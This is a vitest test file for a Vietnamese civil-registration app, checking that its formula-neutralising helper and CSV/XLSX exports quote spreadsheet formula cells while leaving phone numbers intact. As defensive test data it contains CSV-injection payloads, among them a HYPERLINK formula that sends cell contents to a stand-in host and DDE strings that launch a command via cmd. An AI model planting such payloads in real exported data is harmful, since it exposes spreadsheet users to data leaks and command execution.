import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { filingsTable } from '@/utils/filings/view';
import type { FilingView } from '@/utils/db/filing-schema';
import { tableCsv, tableXlsx } from '@/utils/records/export';
import { neutraliseFormula } from '@/utils/security/formula';

describe('neutraliseFormula (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', `'=HYPERLINK("http://x.example/?"&A1,"Bấm")`],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['- ghi chú', "'- ghi chú"],
    ['-', "'-"],
    ['+84abc', "'+84abc"],
    ['-1+A1', "'-1+A1"],
  ])('quotes %j', (cell, expected) => {
    expect(neutraliseFormula(cell)).toBe(expected);
  });

  it.each([
    '+84 912 345 678',
    '+84-912-345-678',
    '+(84) 912 345 678',
    '-5',
    '-1.5',
    'Nguyễn Văn An',
    '0912345678',
    '',
    "'=already quoted",
    '1+1',
  ])('keeps %j as it is (a number, a phone, or no formula)', (cell) => {
    expect(neutraliseFormula(cell)).toBe(cell);
  });
});

const hostile = ['=HYPERLINK("http://x.example","Bấm")', '+84 912 345 678', '@SUM(A1)', '-1+A1'];

async function xlsxCells(bytes: Uint8Array<ArrayBuffer>): Promise<string[][]> {
  const { Workbook } = (await import('exceljs')).default;
  const wb = new Workbook();
  await wb.xlsx.load(bytes.buffer);
  const rows: string[][] = [];
  wb.worksheets[0]!.eachRow((row) =>
    rows.push(
      (row.values as unknown[])
        .slice(1)
        .map((v) => (typeof v === 'object' && v !== null ? JSON.stringify(v) : String(v))),
    ),
  );
  return rows;
}

describe('exports carry no formulas', () => {
  it('a records table in CSV and XLSX: every hostile cell quoted, the phone kept', async () => {
    const rows = [['Họ và tên', 'Số điện thoại', 'Ghi chú', 'Khác'], hostile];
    const expected = [`'${hostile[0]}`, '+84 912 345 678', `'@SUM(A1)`, `'-1+A1`];
    const csv = Papa.parse<string[]>(new TextDecoder().decode(tableCsv(rows)).replace(/^\ufeff/, '')).data;
    expect(csv[1]).toEqual(expected);
    const xlsx = await xlsxCells(await tableXlsx(rows, 'Công dân'));
    expect(xlsx[1]).toEqual(expected);
  });

  it('the dashboard table: a hostile citizen name, officer name and note are quoted', async () => {
    const view: FilingView = {
      counterId: 'a1b2c3d4e5f6a7b8',
      id: 'f1',
      root: 'f1',
      at: '2026-03-02T01:00:00.000Z',
      officerId: 'o1',
      officerName: '=1+1',
      procedureCode: 'KS',
      procedureName: 'Đăng ký khai sinh',
      portalHost: 'dichvucong.gov.vn',
      status: 'submitted',
      fields: { filled: 1, check: 0, missing: 0 },
      msToFill: 1000,
      msToSubmit: null,
      dossierCode: null,
    };
    const table = filingsTable(
      [view],
      () => ({
        salt: 'x'.repeat(16),
        people: [{ role: 'subject', personId: 'p', name: '@evil', maskedId: null }],
        note: '+HYPERLINK("x")',
      }),
      () => 'Quầy 1',
    );
    const csv = Papa.parse<string[]>(new TextDecoder().decode(tableCsv(table)).replace(/^\ufeff/, '')).data;
    const row = csv[1]!;
    expect(row).toContain("'=1+1");
    expect(row.some((c) => c.startsWith("'@evil"))).toBe(true);
    expect(row).toContain(`'+HYPERLINK("x")`);
    expect(row.filter((c) => /^[=+@\t\r]/.test(c) || /^-[^\d]/.test(c))).toEqual([]);
  });
});
